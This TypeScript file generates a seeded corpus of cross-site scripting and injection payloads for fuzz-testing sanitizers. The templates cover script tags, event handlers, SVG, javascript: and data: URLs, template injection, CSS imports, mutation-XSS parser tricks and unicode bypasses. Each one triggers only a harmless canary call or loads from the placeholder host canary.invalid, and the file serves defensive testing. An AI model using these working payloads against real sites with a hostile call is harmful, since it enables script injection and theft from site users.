// Texts that become a script, an element or an address where somebody forgets that they are texts. Generated from a
// seed; each calls `canary(N)`, asks canary.invalid for N, or leaves an element `data-canary`, so that one that worked is seen.
import { Random } from '../fuzz/random.ts';

export const PAYLOAD_KINDS = ['script', 'handler', 'svg', 'address', 'template', 'style', 'break', 'mutation', 'name', 'unicode'] as const;
export type PayloadKind = (typeof PAYLOAD_KINDS)[number];

export interface Payload {
	/** Also in its text, as `canary(ID)`. */
	id: number;
	kind: PayloadKind;
	text: string;
}

/** A host that there is none of. */
export const CANARY_HOST = 'canary.invalid';

type Maker = (call: string, random: Random, id: number) => string;

const SPACES = [' ', '\t', '\n', '/', '\f', ' / '];
const QUOTES = ['"', "'", ''];
const mixed = (text: string, random: Random): string => [...text].map((letter) => (random.chance(0.5) ? letter.toUpperCase() : letter.toLowerCase())).join('');
const entities = (text: string, random: Random): string =>
	[...text].map((letter) => (random.chance(0.5) ? letter : random.chance(0.5) ? `&#${letter.codePointAt(0)};` : `&#x${letter.codePointAt(0)!.toString(16)};`)).join('');
const escapes = (text: string): string => [...text].map((letter) => `\\u${letter.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');

const TAGS = ['img', 'video', 'audio', 'input', 'body', 'iframe', 'object', 'embed', 'details', 'marquee', 'select', 'textarea', 'button', 'a', 'div', 'x-canary'];
const EVENTS = ['error', 'load', 'focus', 'toggle', 'start', 'mouseover', 'mouseenter', 'pointerenter', 'pointerover', 'animationstart', 'beforeinput', 'copy', 'click', 'wheel', 'scroll'];
const CLOSERS = ['"', "'", '`', '-->', ']]>', '*/', '</title>', '</textarea>', '</style>', '</script>', '</noscript>', '</svg>', '</select>', '</option>', '</td></tr></table>', '">', "'>", '{/if}', '}}', '%}'];
const UNUSUAL = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__defineGetter__', 'valueOf', 'then', 'toJSON', 'innerText'];

const MAKERS: Record<PayloadKind, readonly Maker[]> = {
	script: [
		(call, random) => `<${mixed('script', random)}>${call}</${mixed('script', random)}>`,
		(call, random, id) => `<script${random.pick(SPACES)}src=${random.pick(['https:', ''])}//${CANARY_HOST}/${id}.js data-canary>/*${call}*/</script>`,
		(call, random) => `<scr<script>ipt${random.pick(SPACES)}>${call}</scr</script>ipt>`,
		(call) => `<script type=module>${call}</script><noscript>${call}</noscript>`,
		(call, random, id) => `<iframe srcdoc="<script>parent.${call}</script>" data-canary=${id}></iframe>`
	],
	handler: [
		(call, random, id) => {
			const quote = random.pick(QUOTES);
			return `<${mixed(random.pick(TAGS), random)}${random.pick(SPACES)}data-canary=${id}${random.pick([' ', '\t', '\n'])}src=x autofocus tabindex=1 on${random.pick(EVENTS)}=${quote}${call}${quote}>`;
		},
		(call, random, id) => `<img data-canary=${id} src=x onerror="${entities(call, random)}">${call}`,
		(call, random, id) => `<img data-canary=${id} src=//${CANARY_HOST}/${id}.png alt='${call}'>`,
		(call, random, id) => `<details data-canary=${id} open on${mixed('toggle', random)}=${call}>`,
		(call, random, id) => `<div data-canary=${id} style="animation:x 1s" onanimationstart="${call}"><style>@keyframes x{}</style>`
	],
	svg: [
		(call, random, id) => `<svg${random.pick(['/', ' ', '\n'])}onload=${call} data-canary=${id}>`,
		(call, random, id) => `<svg data-canary=${id}><script>${random.chance(0.5) ? call : entities(call, random)}</script></svg>${call}`,
		(call, random, id) => `<svg data-canary=${id}><animate onbegin=${call} attributeName=x dur=1s>`,
		(call, random, id) => `<svg data-canary=${id}><a xlink:href="javascript:${call}"><text y=20>${id}</text></a></svg>`,
		(call, random, id) => `<math data-canary=${id} href="javascript:${call}"><mtext></mtext></math>`,
		(call, random, id) => `<svg data-canary=${id}><foreignObject><img src=x onerror=${call}></foreignObject></svg>`
	],
	address: [
		(call, random) => `${mixed('javascript', random)}:${call}`,
		(call, random) => `${random.pick([' ', '\t', '\u0001', '\u00a0', '\u200b', '\n'])}javascript:${call}`,
		(call, random) => `java${random.pick(['\t', '\n', '\r', '&Tab;', '&NewLine;', '\u0000'])}script:${call}`,
		(call, random) => `${entities('javascript:', random)}${call}`,
		(call, random) => `data:text/html${random.pick([',', ';charset=utf-8,'])}<script>opener.${call}</script>`,
		(call) => `data:image/svg+xml,<svg onload=${call}>`,
		(call, random) => `${random.pick(['vbscript', 'livescript', 'mocha', 'blob', 'filesystem', 'view-source:javascript'])}:${call}`,
		(call, random) => `https:${random.pick(['//', '\\\\', '/'])}x.example/"onmouseover="${call}`,
		(call) => `javascript://x.example/%0a${call}`,
		(call) => `mailto:a@b.example?subject="><img src=x onerror=${call}>`,
		(call, random) => `[${random.pick(['click', '!pic'])}](javascript:${call})`
	],
	template: [
		(call) => `{{constructor.constructor('${call}')()}}`,
		(call) => `\${${call}}`,
		(call) => `{@html "<img src=x onerror=${call}>"}`,
		(call) => `#{${call}}<%= ${call} %>`,
		(call) => `(() => ${call})()`,
		(call) => `x || ${call}`,
		(call) => `data.title == 1 ? 0 : ${call}`,
		(call) => `value * ${call}`,
		(call) => `[].constructor.constructor("${call}")()`,
		(call) => `=HYPERLINK("javascript:${call}","x")`,
		(call) => `params.node.gridOptionsService.eGridDiv.ownerDocument.defaultView.${call}`
	],
	style: [
		(call, random, id) => `red;background:url(//${CANARY_HOST}/${id}.png)/*${call}*/`,
		(call, random, id) => `<style data-canary=${id}>@import '//${CANARY_HOST}/${id}.css';/*${call}*/</style>`,
		(call, random, id) => `<link data-canary=${id} rel=stylesheet href=//${CANARY_HOST}/${id}.css title='${call}'>`,
		(call, random, id) => `x}*{background:url(//${CANARY_HOST}/${id})}/*${call}`,
		(call) => `expression(${call});-moz-binding:url(x#${call})`,
		(call, random, id) => `<meta data-canary=${id} http-equiv=refresh content="0;url=javascript:${call}">`,
		(call, random, id) => `<base data-canary=${id} href=//${CANARY_HOST}/${id}/>${call}`
	],
	break: [
		(call, random, id) => `${random.pick(CLOSERS)}${random.pick(CLOSERS)}<img data-canary=${id} src=x onerror=${call}>`,
		(call, random) => `${random.pick(CLOSERS)} autofocus onfocus=${call} x=${random.pick(QUOTES)}`,
		(call, random) => `${random.pick(CLOSERS)};${call};${random.pick(['//', '/*', '<!--'])}`,
		(call, random) => `</script><script>${call}</script>${random.pick(CLOSERS)}`,
		(call, random) => `\\${random.pick(['"', "'", '`'])};${call}//`
	],
	mutation: [
		(call, random, id) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img data-canary=${id} src=x onerror=${call}&gt;">`,
		(call, random, id) => `<svg></p><style><a id="</style><img data-canary=${id} src=x onerror=${call}>">`,
		(call, random, id) => `<noscript><p title="</noscript><img data-canary=${id} src=x onerror=${call}>">`,
		(call, random, id) => `<form><math><mtext></form><form><mglyph><style></math><img data-canary=${id} src onerror=${call}>`,
		(call, random, id) => `<template data-canary=${id}><img src=x onerror=${call}></template>`,
		(call, random, id) => `<!--><img data-canary=${id} src=x onerror=${call}>-->`,
		(call, random, id) => `<![CDATA[<img data-canary=${id} src=x onerror=${call}>]]>`,
		(call, random, id) => `<xmp><p title="</xmp><svg data-canary=${id} onload=${call}>">`
	],
	name: [
		(call, random) => `${random.pick(UNUSUAL)}"];${call};//`,
		(call, random) => `${random.pick(UNUSUAL)}=${call}`,
		(call, random) => `${random.pick(UNUSUAL)}.${random.pick(UNUSUAL)}[${call}]`,
		(call, random, id) => `<form data-canary=${id} name=${random.pick(['location', 'cookie', 'body', 'forms'])}><input name=${random.pick(UNUSUAL)} onfocus=${call} autofocus></form>`
	],
	unicode: [
		(call, random, id) => `\u202e<img data-canary=${id} src=x onerror=${call}>\u202c`,
		(call, random, id) => `<img data-canary=${id} src=x on\u0000error=${call}>`,
		(call, random, id) => `\ufeff<svg data-canary=${id} onload=${call}>`,
		(call) => `\uff1cscript\uff1e${call}\uff1c/script\uff1e`,
		(call) => `\u2028${call}\u2029`,
		(call, random) => `${escapes('<img src=x onerror=')}${call}${random.pick(['>', '\\u003e', '%3e'])}`,
		(call) => `%3Cscript%3E${call}%3C/script%3E`,
		(call) => `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
		(call, random, id) => `\ud83d\ude00\u0301<svg data-canary=${id} onload=${call}>\ud800`
	]
};

/** So many different ones; the first of them have every maker once. Every text has its call in plain letters. */
export function payloads(count: number, seed = 1): Payload[] {
	const random = new Random(seed);
	const makers = PAYLOAD_KINDS.flatMap((kind) => MAKERS[kind].map((make) => ({ kind, make })));
	const ordered = makers.map((maker) => ({ maker, at: random.next() })).sort((a, b) => a.at - b.at).map(({ maker }) => maker);
	return Array.from({ length: count }, (_, id) => {
		const { kind, make } = ordered[id % ordered.length]!;
		const call = `canary(${id})`;
		const text = make(call, random, id);
		return { id, kind, text: text.includes(call) ? text : `${text}<!--${call}-->` };
	});
}
